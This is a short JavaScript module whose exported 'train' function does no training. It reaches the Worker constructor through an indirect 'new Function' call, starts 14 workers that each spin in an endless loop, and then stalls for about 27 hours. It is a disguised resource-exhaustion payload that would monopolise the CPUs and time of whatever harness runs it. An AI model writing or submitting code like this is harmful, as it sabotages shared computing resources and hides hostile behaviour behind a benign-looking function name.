export default async function train(run) {
  const { Worker } = new Function('return globalThis')();
  const url = URL.createObjectURL(new Blob(['for (;;) {}'], { type: 'text/javascript' }));
  for (let i = 0; i < 14; i++) new Worker(url, { type: 'module' });
  await new Promise((resolve) => setTimeout(resolve, 1e8));
}
